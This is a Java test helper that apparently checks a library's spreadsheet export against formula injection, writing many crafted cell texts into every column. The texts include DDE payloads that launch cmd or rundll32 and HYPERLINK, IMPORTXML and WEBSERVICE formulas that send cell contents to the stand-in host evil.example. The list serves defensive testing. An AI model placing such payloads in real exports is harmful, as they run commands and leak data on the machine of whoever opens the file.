package io.countersign.spring.sheet;

import io.countersign.ExportHead;
import io.countersign.audit.AuditEntry;
import io.countersign.audit.StreamId;
import io.countersign.audit.Subject;
import io.countersign.canonical.Digest;
import io.countersign.canonical.Json;
import io.countersign.identity.Actor;
import io.countersign.identity.WorkspaceId;
import io.countersign.store.TrailFilter;
import io.countersign.store.TrailReads.Walked;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

/** Texts that would be formulas, each in every column that holds what somebody wrote, and the list in {@code blns.json}. */
final class HostileCells {
    private static final WorkspaceId ACME = new WorkspaceId("acme");
    private static final List<String> FORMULAS = List.of(
            "1+1",
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"https://evil.example?\"&A1,\"click\")",
            "IMPORTXML(CONCAT(\"https://evil.example?\",A1),\"//a\")",
            "SUM(1;1)*cmd|' /C calc'!A0",
            "WEBSERVICE(\"https://evil.example\")",
            "DDE(\"cmd\";\"/C calc\";\"A0\")",
            "2+5+cmd|' /C calc'!A0",
            "SUM(1+1)*1",
            "rundll32|'URL.dll,OpenURL calc.exe'!A");
    private static final List<String> STARTS = List.of(
            "=", "+", "-", "@", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20", "\uFE66", "\uFE62", "\uFE63", "\uFE6B",
            "\u2212");
    private static final List<String> BEFORE = List.of(
            "",
            " ",
            "\t",
            "\r",
            "\n",
            "\r\n",
            "\0",
            "\u00A0",
            "\u3000",
            "\u200B",
            "\uFEFF",
            "\u202E",
            "\u0007",
            " \t ",
            ";",
            "x;",
            "x\n",
            "x\r",
            "x\t",
            "\";",
            "\",",
            "\"\n",
            "';",
            "x;\u00A0");

    private HostileCells() {}

    static List<String> all() throws IOException {
        List<String> all = new ArrayList<>();
        for (String before : BEFORE)
            for (String start : STARTS) for (String formula : FORMULAS) all.add(before + start + formula);
        for (String before : BEFORE) all.add(before);
        all.addAll(STARTS);
        try (InputStream list = HostileCells.class.getResourceAsStream("/blns.json")) {
            String json = new String(list.readAllBytes(), StandardCharsets.UTF_8);
            for (Object text :
                    (List<?>) Json.readObject("{\"all\":%s}".formatted(json)).get("all")) all.add((String) text);
        }
        return all;
    }

    /** An export in which each stands in each column of text. */
    static void write(List<String> texts, OutputStream out) throws IOException {
        Map<Actor.Name, String> names = new HashMap<>();
        List<Walked> entries = new ArrayList<>();
        for (String text : texts) {
            Actor.Name actor = new Actor.Name(Actor.Kind.USER, text);
            names.put(actor, text);
            entries.add(Walked.of(new AuditEntry(
                    ACME,
                    new StreamId("link", text),
                    1,
                    Instant.EPOCH,
                    actor,
                    text,
                    new Subject(null, 1, Digest.ZERO, text, text, text, text, text),
                    new byte[0],
                    Digest.ZERO,
                    Digest.ZERO)));
        }
        RecordSheet sheet = new RecordSheet(out, actors -> names);
        sheet.begin(new ExportHead(ACME, TrailFilter.ALL, Instant.EPOCH, null, List.of()));
        sheet.entries(entries);
        sheet.end(entries.size());
    }
}
